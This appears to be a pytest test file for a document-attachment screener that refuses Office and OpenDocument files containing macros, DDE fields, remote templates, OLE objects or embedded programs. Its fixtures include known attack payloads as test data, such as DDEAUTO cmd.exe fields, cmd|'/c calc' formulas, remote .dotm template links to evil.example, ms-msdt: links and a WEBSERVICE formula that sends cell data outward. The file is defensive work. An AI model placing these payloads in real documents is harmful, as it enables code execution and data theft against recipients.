"""Documents that would start something, and the many that would not: office.py and opendocument.py."""

import re
import zipfile

import pytest

from services.transcripts.attachments.formats import documents
from services.transcripts.attachments.formats.archives import CHUNK
from services.transcripts.attachments.judging import judge
from services.transcripts.attachments.kinds import Finding, Reason, Refused
from tests.transcripts import made
from tests.transcripts.made import compound, content_types, office, opendocument, relations

MS = "http://schemas.microsoft.com/office/2006/relationships"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
FIELD = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
CODE = "<w:r><w:instrText>{}</w:instrText></w:r>"


def field(*codes: str) -> str:
    return (
        FIELD.format("begin") + "".join(CODE.format(c) for c in codes) + FIELD.format("separate") + FIELD.format("end")
    )


def with_types(types: bytes | str) -> bytes:
    return office(more={"[Content_Types].xml": types})


def kind_of(content: bytes, name: str = "bestand") -> str:
    return judge(content, name).kind.endings[0]


def refused(content: bytes) -> tuple[str, str]:
    with pytest.raises(Refused) as caught:
        judge(content, "brief.docx")
    return caught.value.reason.value, caught.value.found


@pytest.mark.parametrize(
    ("content", "ending"),
    [
        (office(), ".docx"),
        (office("word/document2.xml"), ".docx"),
        (office("word/document22.xml", more={"[Content_Types].xml": content_types()}), ".docx"),
        (office("xl/workbook.xml", made.SHEET), ".xlsx"),
        (office("ppt/presentation.xml", made.SLIDES), ".pptx"),
        (office(kind="wordprocessingml.template"), ".dotx"),
        (office("xl/workbook.xml", "spreadsheetml.template"), ".xltx"),
        (office("ppt/presentation.xml", "presentationml.template"), ".potx"),
        (office("ppt/presentation.xml", "presentationml.slideshow"), ".ppsx"),
        *((opendocument(k), e) for k, e in {"text": ".odt", "spreadsheet": ".ods", "presentation": ".odp"}.items()),
        *((opendocument(f"{k}-template"), f".ot{k[0]}") for k in ("text", "spreadsheet", "presentation", "graphics")),
    ],
)
def test_documents_are_what_they_say_of_themselves(content: bytes, ending: str) -> None:
    ending = {".otp": ".otp", ".ots": ".ots", ".ott": ".ott", ".otg": ".otg"}.get(ending, ending)
    assert kind_of(content) == ending


def test_a_strict_document_and_one_with_backslashes() -> None:
    strict = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type='
    )
    strict += '"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument" Target="/word/document.xml"/>'
    assert kind_of(office(more={"_rels/.rels": strict + "</Relationships>"})) == ".docx"
    old = {"[Content_Types].xml": content_types(), "_rels\\.rels": relations(("officeDocument", "word\\document.xml"))}
    assert kind_of(made.archive({**old, "word\\document.xml": "<w/>"})) == ".docx"


def chunk(ending: str, content: bytes | str) -> bytes:
    """A document that takes another file into its text."""
    return office(related=relations(("aFChunk", f"chunk.{ending}")), more={f"word/chunk.{ending}": content})


def connected(connection: str) -> bytes:
    """A workbook with a connection to data elsewhere."""
    more = {"xl/connections.xml": f"<connections><connection>{connection}</connection></connections>"}
    return office("xl/workbook.xml", made.SHEET, more=more)


@pytest.mark.parametrize(
    "content",
    [
        office(related=relations(("hyperlink", "https://www.example.be/?a=1&amp;b=2", "External"))),
        office(related=relations(("hyperlink", "file://server/share/brief.docx", "External"))),
        office(related=relations(("hyperlink", "mailto:an@example.be", "External"))),
        office(related=relations(("image", "https://www.example.be/logo.png", "External"))),
        office(related=relations(("image", "file:///C:/Users/An/logo.png", "External"))),
        office(related=relations(("attachedTemplate", "file:///C:/Users/An/Templates/Brief.dotx", "External"))),
        office(related=relations(("attachedTemplate", "Normal.dotm", "External"))),
        office(
            "xl/workbook.xml",
            made.SHEET,
            related=relations(("externalLinkPath", "file:///S:/cijfers.xlsx", "External")),
        ),
        office(body=field(" PAGE ") + field(' HYPERLINK "https://dde.example.be/DDE" ') + "<w:t>DDEAUTO cmd</w:t>"),
        office(body=field(" DDEPARTMENT ")),
        office(more={"word/charts/_rels/c.xml.rels": relations(("oleObject", "file:///C:/An/b.xlsx", "External"))}),
        office(related=relations(("hyperlink", "javascript:void(0);", "External"))),
        office(body=field(' INCLUDEPICTURE "https://www.example.be/logo.png" \\* MERGEFORMATINET ')),
        office(body=field(' INCLUDEPICTURE "C:\\\\Users\\\\An\\\\foto.jpg" ')),
        office(body=field(' LINK Excel.Sheet.12 "S:\\\\cijfers.xlsx" "Blad1!R1K1" \\a \\f 5 ')),
        chunk("txt", "hallo"),
        chunk("docx", office()),
        connected(
            '<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Q" command="x"/>'
        ),
        office(related=relations(("package", "embeddings/sheet.xlsx")), more={"word/embeddings/sheet.xlsx": office()}),
        office(
            more={
                "word/media/image1.svg": '<!DOCTYPE svg [<!ENTITY ns "http://x">]><svg xmlns="http://www.w3.org/2000/svg"/>'
            }
        ),
        office(more={"word/media/vba_diagram.png": made.PNG, "word/media/action.wmf": b"\xd7\xcd\xc6\x9a" + bytes(40)}),
        office(more={"customXml/item1.xml": "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16")}),
        opendocument(body='<text:a xlink:href="https://www.example.be">x</text:a>'),
        opendocument(body='<text:a xlink:href="javascript:;">x</text:a>'),
        opendocument(body='<text:section-source xlink:href="file:///C:/deel.odt"/>'),
        opendocument(
            more={"Object 1/content.xml": "<a/>", "Object 1/mimetype": "x", "ObjectReplacements/Object 1": b"VCLMTF"}
        ),
        opendocument(more={"Basic/script-lc.xml": "<a/>", "Basic/Standard/script-lb.xml": "<a/>"}),
        opendocument(body='<presentation:event-listener presentation:action="next-page"/>'),
        opendocument(body='<draw:plugin draw:mime-type="application/vnd.sun.star.media" xlink:href="Media/film.mp4"/>'),
        opendocument(body='<table:table-cell table:formula="of:=SUM([.A1];{1;2|3;4})"/>'),
        opendocument(
            more={"META-INF/manifest.xml": '<!DOCTYPE m PUBLIC "-//x//DTD Manifest 1.0//EN" "Manifest.dtd"><m/>'}
        ),
    ],
)
def test_ordinary_documents_are_taken(content: bytes) -> None:
    assert kind_of(content)


def workbook(formula: str) -> bytes:
    """A workbook with this formula in its sheet."""
    sheet = content_types(
        ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        ("xl/s.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
    )
    more = {"[Content_Types].xml": sheet, "xl/s.xml": f"<s><f>{formula}</f></s>"}
    return office("xl/workbook.xml", made.SHEET, more=more)


def embedded(name: str, content: bytes | str = b"x") -> bytes:
    return office(more={f"word/embeddings/{name}": content})


def linked(kind: str, target: str, mode: str | None = None) -> bytes:
    return office(related=relations((kind, target, mode) if mode else (kind, target)))


@pytest.mark.parametrize(
    "content",
    [
        with_types(content_types(("word/document.xml", MACROS))),
        with_types(content_types(("word/document.xml", MACROS)).encode("utf-16")),
        with_types(content_types(("word/document.xml", MACROS.replace("E", "&#69;")))),
        with_types(content_types(("word/document.xml", MACROS.replace("E", "&#x45;")))),
        with_types(content_types(("word/document.xml", MACROS.upper()))),
        with_types(
            content_types(extra='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
        ),
        office(more={"word/vbaProject.bin": b"x"}),
        office(more={"WORD\\VBAPROJECT.BIN": b"x"}),
        office(more={"word/%76baProject.bin": b"x"}),
        office(more={"word/foo.bin": compound("VBA", "_VBA_PROJECT", "dir")}),
        office(more={"word/media/image1.png": compound("PROJECT", "VBA")}),
        linked(f"{MS}/vbaProject", "foo.bin"),
        linked(f"{MS}/xlMacrosheet", "foo.xml"),
        office("xl/workbook.xml", made.SHEET, more={"xl/macrosheets/sheet1.xml": "<a/>"}),
        office(more={"word/embeddings/x.docx": office(more={"word/foo.bin": compound("VBA")})}),
        opendocument(more={"Basic/Standard/Module1.xml": "<x/>"}),
        opendocument(more={"Object 1/Basic/Standard/Module1.xml": "<x/>"}),
        opendocument(more={"Scripts/python/a.py": "import os"}),
        opendocument(more={"Basic/script-lc.xml": '<l xmlns:x="y"><library x:href="http://evil/"/></l>'}),
        opendocument(body='<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'),
        opendocument(body='<text:a xlink:href="vnd.sun.star.scr&#105;pt:x.py$y?language=Python">x</text:a>'),
        opendocument(body='<text:script script:language="JavaScript">alert(1)</text:script>'),
        opendocument(body="<text:execute-macro/>"),
        opendocument(more={"Object 2": compound("VBA")}),
    ],
)
def test_macros_are_refused_whatever_they_are_called(content: bytes) -> None:
    reason, found = refused(content)
    assert (reason, "macros" in found) == ("macros", True)


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (linked("attachedTemplate", "https://evil.example/x.dotm", "External"), Finding.EXTERNAL),
        (linked("attachedTemplate", "\\\\evil\\share\\x.dotm", "External"), Finding.EXTERNAL),
        (linked("attachedTemplate", "file://evil/share/x.dotm", "external"), Finding.EXTERNAL),
        (linked("attachedTemplate", "file:///\\\\evil\\share\\x.dotm", "External"), Finding.EXTERNAL),
        (linked("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil", "External"), Finding.EXTERNAL),
        (
            office(more={"word/charts/_rels/c.xml.rels": relations(("oleObject", "https://evil/b.xlsx", "External"))}),
            Finding.EXTERNAL,
        ),
        (linked("oleObject", "file:///C:/An/b.xlsx", "External"), Finding.EXTERNAL),
        (linked("hyperlink", "ms-msdt:/id x", "External"), Finding.EXTERNAL),
        (linked("hyperlink", "java&#115;cript:alert(1)", "External"), Finding.EXTERNAL),
        (linked("frame", "https://evil.example/x.htm", "External"), Finding.EXTERNAL),
        (linked("image", "file:////evil/share/x.png", "External"), Finding.EXTERNAL),
        (office(body=field(' INCLUDEPICTURE "\\\\\\\\evil\\\\s\\\\x.png" ')), Finding.EXTERNAL),
        (office(body=field(' INCLUDETEXT "https://evil.example/x.docx" ')), Finding.EXTERNAL),
        (office(body=field(' LINK Word.Document.8 "https://evil.example/x.doc" "" \\a ')), Finding.EXTERNAL),
        (connected('<webPr sourceData="1" url="https://evil.example/x.html"/>'), Finding.EXTERNAL),
        (connected('<dbPr connection="OLEDB;Data Source=https://evil.example/"/>'), Finding.EXTERNAL),
        (opendocument(body='<text:section-source xlink:href="https://evil.example/x.odt"/>'), Finding.EXTERNAL),
        (opendocument("spreadsheet", body='<table:cell-range-source xlink:href="//evil/x.html"/>'), Finding.EXTERNAL),
        (chunk("htm", "<html><body><img src='file://evil/x'></body></html>"), Finding.OBJECTS),
        (chunk("mht", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x"), Finding.OBJECTS),
        (chunk("rtf", "{\\rt x}"), Finding.OBJECTS),
        (opendocument(body='<draw:floating-frame xlink:href="https://evil.example"/>'), Finding.EXTERNAL),
        (
            opendocument(more={"meta.xml": '<m xmlns:x="y"><template x:href="https://evil/x.ott"/></m>'}),
            Finding.EXTERNAL,
        ),
        (linked("oleObject", "embeddings/oleObject1.bin"), Finding.OBJECTS),
        (linked("control", "activeX/activeX1.xml"), Finding.OBJECTS),
        (embedded("oleObject1.bin", compound("\x01Ole10Native")), Finding.OBJECTS),
        (embedded("x.xls", compound("Workbook")), Finding.OBJECTS),
        (office(more={"word/activeX/activeX1.xml": "<a/>"}), Finding.OBJECTS),
        (opendocument(more={"Object 1": compound("Workbook")}), Finding.OBJECTS),
        (opendocument(body='<draw:applet draw:code="x"/>'), Finding.OBJECTS),
        *(
            (embedded(f"a.{e}"), Finding.PROGRAMS)
            for e in ("bat", "PS1", "hta", "lnk", "js", "vbs", "exe", "scr", "jar", "cmd")
        ),
        (embedded("a.bat. "), Finding.PROGRAMS),
        (embedded("a%2ebat"), Finding.PROGRAMS),
        (embedded("a.bin", b"MZ\x90\0" + bytes(60)), Finding.PROGRAMS),
        (embedded("a.bin", b"\x7fELF" + bytes(60)), Finding.PROGRAMS),
        (embedded("a.bin", made.archive({"META-INF/MANIFEST.MF": "x", "A.class": "x"})), Finding.PROGRAMS),
        (embedded("a.docm", office()), Finding.PROGRAMS),
        (
            office("ppt/presentation.xml", made.SLIDES, body='<hlinkClick action="ppaction://program"/>'),
            Finding.PROGRAMS,
        ),
        (opendocument(body='<presentation:event-listener presentation:action="execute"/>'), Finding.PROGRAMS),
        (office(body=field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")), Finding.DDE),
        (office(body=field(" DD", 'E "cmd" "/c calc"')), Finding.DDE),
        (office(body=field("&#68;DE cmd")), Finding.DDE),
        (office(body='<w:fldSimple w:instr="DDE cmd"/>'), Finding.DDE),
        (office(more={"word/x.xml": '<w:fldSimple xmlns:w="w" w:instr="DDE cmd"/>'.encode("utf-16-le")}), Finding.DDE),
        (office(more={"word/x.xml": '<w:fldSimple xmlns:w="w" w:instr="DDE cmd"/>'.encode("utf-16-be")}), Finding.DDE),
        (office(body=FIELD.format("begin") + field(" QUOTE 68 68 69 65 85 84 79 ") + CODE.format(" cmd")), Finding.DDE),
        (
            office(
                "xl/workbook.xml",
                made.SHEET,
                more={"xl/externalLinks/e1.xml": "<externalLink><ddeLink/></externalLink>"},
            ),
            Finding.DDE,
        ),
        (opendocument(body='<text:dde-connection-decl office:dde-application="cmd"/>'), Finding.DDE),
        (opendocument(body='<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;)"/>'), Finding.DDE),
        (opendocument(body='<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>'), Finding.EXTERNAL),
        (
            opendocument(
                body='<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE (&quot;https://x&quot;)"/>'
            ),
            Finding.EXTERNAL,
        ),
        (workbook('_xlfn.WEBSERVICE("https://x.example/?a="&amp;A1)'), Finding.EXTERNAL),
        (workbook('IF(1,_xlfn.WebService (A1),"")'), Finding.EXTERNAL),
        (workbook("_xlfn.WEB&#83;ERVICE(A1)"), Finding.EXTERNAL),
    ],
)
def test_what_starts_or_loads_something_is_refused(content: bytes, found: Finding) -> None:
    reason, told = refused(content)
    assert (reason, found.value in told.split()) == ("active_content", True), told


def test_a_formula_that_asks_another_program() -> None:
    for formula in ("cmd|'/c calc'!A0", "cmd&#124;'/c calc'!A0"):
        assert refused(workbook(formula)) == ("active_content", "dde")


@pytest.mark.parametrize(
    "formula", ['"a|b!"&amp;A1', "WEBSERVICES(A1)", "WEBSERVICE+1", "_xlfn.ENCODEURL(A1)", '"zie WEBSERVICE(A1)"']
)
def test_a_formula_of_the_workbook_alone(formula: str) -> None:
    assert kind_of(workbook(formula)) == ".xlsx"


def test_a_formula_that_is_read_in_two_pieces() -> None:
    formula = "cmd|'/c calc'!A0"
    for cut in range(1, len(formula)):
        before = "<s><!--"
        space = " " * (CHUNK - len(before) - len("--><f>") - cut)
        content = office("xl/workbook.xml", made.SHEET, more={"xl/s.xml": f"{before}{space}--><f>{formula}</f></s>"})
        assert refused(content) == ("active_content", "dde")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (compound("EncryptedPackage", "EncryptionInfo"), Reason.PASSWORD),
        (compound("\x06DataSpaces"), Reason.PASSWORD),
        (opendocument(more={"META-INF/manifest.xml": '<m xmlns:a="b"><a:encryption-data/></m>'}), Reason.PASSWORD),
        (compound("WordDocument", "1Table"), Reason.OLD_OFFICE),
        (compound("Workbook"), Reason.OLD_OFFICE),
        (compound("Book"), Reason.OLD_OFFICE),
        (compound("PowerPoint Document"), Reason.OLD_OFFICE),
        (compound("__properties_version1.0"), Reason.NOT_ALLOWED),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(99), Reason.HEIC),
        (b"\0\0\0\x1cftypmif1\0\0\0\0mif1heicmiaf" + bytes(99), Reason.HEIC),
        (b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(99), Reason.NOT_ALLOWED),
        (b"\0\0\0\x18ftypisom\0\0\0\0isommp41" + bytes(99), Reason.NOT_ALLOWED),
        (b"", Reason.EMPTY),
        (made.archive({"a.txt": "x"}), Reason.NOT_ALLOWED),
        (with_types("<Types"), Reason.NOT_ALLOWED),
        (with_types("<?xml version='1.0' encoding='utf-7'?><Types/>"), Reason.NOT_ALLOWED),
    ],
)
def test_the_reason_is_given(content: bytes, reason: Reason) -> None:
    assert refused(content)[0] == reason.value


def test_members_with_a_password() -> None:
    content = bytearray(office())
    for found in re.finditer(rb"PK\x01\x02", bytes(content)):
        content[found.start() + 8] |= 1
    for found in re.finditer(rb"PK\x03\x04", bytes(content)):
        content[found.start() + 6] |= 1
    assert refused(bytes(content))[0] == "password"


def test_control_members_may_not_be_there_twice() -> None:
    import io

    twice = io.BytesIO(office())
    with zipfile.ZipFile(twice, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("[Content_Types].xml", content_types())
    assert refused(twice.getvalue()) == ("not_allowed", "archive: a control member twice")


def test_documents_in_documents_are_looked_into_so_deep_and_no_deeper() -> None:
    content = office()
    for _ in range(documents.MAX_DEPTH):
        content = office(more={"word/embeddings/x.docx": content})
    assert kind_of(content) == ".docx"
    assert refused(office(more={"word/embeddings/x.docx": content}))[0] == "not_allowed"


def test_what_is_not_listed_is_taken() -> None:
    content = linked("attachedTemplate", "https://evil.example/x.dotm", "External")
    assert judge(content, "a.docx", frozenset(Finding) - {Finding.EXTERNAL}).kind.endings[0] == ".docx"
